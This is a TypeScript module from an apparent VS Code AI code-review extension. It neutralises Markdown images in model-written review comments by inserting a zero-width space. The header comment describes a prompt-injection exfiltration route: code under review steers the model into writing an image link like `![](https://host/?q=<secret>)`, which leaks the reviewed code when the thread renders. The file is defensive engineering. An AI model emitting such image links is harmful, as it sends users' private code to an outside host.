/**
 * The Markdown of a review finding's comment thread. The title and comment
 * are the model's, steerable by the code it reviewed, and VS Code renders a
 * comment's Markdown images by fetching them: `![](https://host/?q=<secret
 * from the diff>)` would send the reviewed code to that host as soon as the
 * thread is shown, without a click. So images are turned into links here,
 * and nothing else changes.
 *
 * This module does not import `vscode`, so the body is unit-tested directly.
 */
import type { ReviewFinding } from '../../protocol/lspMethods';
import { fenceFor } from '../../protocol/markdownFence';

/**
 * Breaks every `![`, the opening of a Markdown image (inline or by
 * reference), with a zero-width space, which leaves a plain link. Unlike a
 * backslash it cannot be cancelled by a backslash the model put before it,
 * and inside inline code (`vec![1]`) it stays invisible.
 */
export function withoutImages(markdown: string): string {
  return markdown.replace(/!\[/g, '!\u200B[');
}

/** The comment's Markdown: the title in bold, the model's comment, and the fix fenced so its code cannot close the fence. */
export function reviewCommentBody(finding: Pick<ReviewFinding, 'title' | 'comment' | 'fix'>): string {
  const parts = [`**${withoutImages(finding.title)}**`];
  if (finding.comment) parts.push(withoutImages(finding.comment));
  if (finding.fix) {
    // Inside a fence `![` is code, never an image, so the fix is shown exactly as it will be applied.
    const fence = fenceFor(finding.fix.newText);
    parts.push(`Suggested change (**Apply Fix** shows it as a diff):\n\n${fence}\n${finding.fix.newText}\n${fence}`);
  }
  return parts.join('\n\n');
}
